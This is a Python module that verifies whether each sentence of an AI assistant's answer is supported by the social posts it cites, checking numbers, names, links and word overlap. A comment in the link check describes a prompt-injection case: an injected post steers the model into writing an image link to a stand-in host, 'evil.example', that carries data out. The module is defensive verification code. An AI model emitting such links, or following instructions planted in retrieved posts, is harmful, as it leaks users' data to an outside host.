"""Check every sentence of an answer against the posts it cites.

A sentence is supported when, against the union of the posts its ``[n]`` markers
cite:

1. every number it states appears in a cited post;
2. every name it states (capitalised word, @handle, #tag) appears in a cited post,
   or is the cited post's author or date;
3. at least ``min_support`` of its content words appear in a cited post (a light
   stem match), once the words the answer frame itself adds ("posts", "wrote",
   "authors", month names...) are set aside.

A sentence with no citation states nothing checkable and is unsupported, except
the frame sentences the composers write themselves about the evidence (counts,
dates, "No public post here answers that"), which are marked ``frame``.
No NLI model ships in a wheel here, so that is the whole check; the benchmark
measures its precision and recall.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

from townsquare.assistant.evidence import link_key, links_of
from townsquare.assistant.text import (
    LINK,
    MONTHS,
    SENTENCE_BREAK,
    STOPWORDS,
    content_stems,
    entities,
    numbers,
    spelled_out,
    stem,
)

MARKER = re.compile(r"\[(\d{1,3})\]")
_COUNTS = re.compile(r"\b\d+ (?:posts?|authors?)\b")  # "5 posts from 4 authors": counts of the evidence, not claims
FRAME_WORDS = {
    stem(w)
    for w in """post posts author authors unnamed wrote write writes say says said written posted
between and from to on in public here answer answers other others people viewpoint viewpoints disagree agree
saying claim claims report reports reported according newest latest earliest reply replied replies""".split()
} | set(MONTHS)


@dataclass
class SentenceCheck:
    text: str
    citations: list[int]
    supported: bool
    frame: bool = False
    reasons: list[str] = field(default_factory=list)


def split_sentences(answer: str) -> list[str]:
    """The sentences of an answer, each keeping the ``[n]`` markers that follow it."""
    parts, start = [], 0
    for match in SENTENCE_BREAK.finditer(answer):
        if answer.count("“", start, match.start()) > answer.count("”", start, match.start()):
            continue  # inside a quotation: the quoted post's own sentence breaks are not the answer's
        end = match.start() + len(match.group(0).rstrip())
        parts.append(answer[start:end].strip())
        start = match.end()
    if answer[start:].strip():
        parts.append(answer[start:].strip())
    return [p for p in parts if p]


_GLUED_NUMBER = re.compile(r"(?<=[a-z])(?=\d)")
# a link with a scheme or "www.", or a bare host with a path ("evil.example/phish")
_ANY_LINK = re.compile(LINK.pattern + r"|\b(?:[a-z0-9-]+\.)+[a-z]{2,}/[^\s<>\"'“”)\]]*", re.IGNORECASE)


def check_sentence(sentence: str, cited: list[dict], min_support: float = 0.6) -> SentenceCheck:
    """Is ``sentence`` supported by the ``cited`` posts (dicts with text, author_handle, created_at)?"""
    markers = [int(n) for n in MARKER.findall(sentence)]
    claim = _COUNTS.sub(" ", MARKER.sub(" ", sentence))
    check = SentenceCheck(sentence, markers, False)
    if not cited:
        check.reasons.append("no citation")
        return check
    source = " ".join(p.get("text") or "" for p in cited)
    allowed = " ".join(
        f"{p.get('author_handle') or ''} {p.get('author_id') or ''} {p.get('created_at') or ''}" for p in cited
    )
    have = set(content_stems(source)) | {stem(w) for w in re.findall(r"[A-Za-z0-9]+", source + " " + allowed)}
    have |= {stem(w) for w in allowed.split()}  # whole handles: "@ana_b", "ana@town.example"
    # and each part of a fediverse handle: the byline "@ines_hughes75@millbrook.social wrote" names
    # "ines_hughes75", which no run of letters and digits ("ines", "hughes75") is
    have |= {stem(part) for w in allowed.split() if "@" in w for part in w.lstrip("@").split("@")}
    have |= {stem(w) for w in re.findall(r"[A-Za-z0-9]+", spelled_out(source))}  # "Gilmore Girls" of "#GilmoreGirls"
    source_numbers = numbers(source) | numbers(allowed) | {n.lstrip("0") for n in numbers(allowed)}
    # a number a word runs into is still written: "40" of "lost my luggage for40 hours"
    source_numbers |= numbers(_GLUED_NUMBER.sub(" ", source))
    missing_numbers = [n for n in numbers(claim) if n not in source_numbers and n.lstrip("0") not in source_numbers]
    if missing_numbers:
        check.reasons.append("numbers not in the cited posts: " + ", ".join(sorted(missing_numbers)))
    missing_names = sorted(
        e for e in entities(claim) if e not in have and e.lstrip("@#") not in have and e not in FRAME_WORDS
    )
    if missing_names:
        check.reasons.append("names not in the cited posts: " + ", ".join(missing_names))
    # a link is the most telling name a model can add: an image link a chat page fetches unasked carries what
    # an injected post steers into it (review 19, R19-B5: "![x](https://evil.example/p?d=...)" passed)
    held = set().union(*map(links_of, cited)) | {link_key(url) for url in _ANY_LINK.findall(source)}
    missing_links = sorted({url for url in _ANY_LINK.findall(claim) if link_key(url) not in held})
    if missing_links:
        check.reasons.append("links not in the cited posts: " + ", ".join(missing_links))
        claim = _ANY_LINK.sub(" ", claim)
    words = [w for w in content_stems(claim) if w not in FRAME_WORDS and not re.fullmatch(r"\d+", w)]
    support = sum(w in have for w in words) / len(words) if words else 1.0
    if support < min_support:
        check.reasons.append(f"only {support:.0%} of its words are in the cited posts")
    check.supported = not check.reasons
    return check


LEAD_WORDS = 4  # a sentence of at most this many words is a short answer ("Thrill.", "Free Agency.")


def lead_answers(question: str, lead: str, cited: list[dict], reader: Any) -> bool:
    """Whether a short answer is one the reader finds for ``question`` in a post it cites: a word of it is in one
    of the reader's ``ECHO_CANDIDATES`` best short spans (``LEAD_WORDS``) of that post. Every word of "Thrill" is in "When I heard B.B.
    King ... he was singing The Thrill Is Gone", which does not make it who brought tears to her eyes. Where the
    lead is longer, no span of a cited post, or there is no reader, the lexical check alone decides (True)."""
    said = set(re.findall(r"\w+", MARKER.sub(" ", lead).lower()))
    words = said - STOPWORDS  # "the" of "The Winter Market" is in every span
    if reader is None or not words or len(MARKER.sub(" ", lead).split()) > LEAD_WORDS:
        return True
    texts = [p.get("text") or "" for p in cited]
    spanned = [t for t in texts if said <= set(re.findall(r"\w+", t.lower()))]
    if not spanned:
        return True
    return any(
        words & set(re.findall(r"\w+", span.lower()))
        for text in spanned
        for span in reader.spans(question, text, words=LEAD_WORDS)
    )


def verify(
    answer: str, posts_by_number: dict[int, dict], frames: set[str] = frozenset(), min_support: float = 0.6
) -> list[SentenceCheck]:
    """One check per sentence; ``frames`` are sentences the composer wrote about the evidence itself."""
    checks = []
    frames = {MARKER.sub("", frame).strip() for frame in frames}
    for sentence in split_sentences(answer):
        if MARKER.sub("", sentence).strip() in frames:
            checks.append(SentenceCheck(sentence, [], True, frame=True))
            continue
        cited = [posts_by_number[n] for n in (int(m) for m in MARKER.findall(sentence)) if n in posts_by_number]
        checks.append(check_sentence(sentence, cited, min_support))
    return checks


def strip_unsupported(checks: list[SentenceCheck]) -> str:
    """The answer with unsupported sentences removed."""
    return " ".join(c.text for c in checks if c.supported)
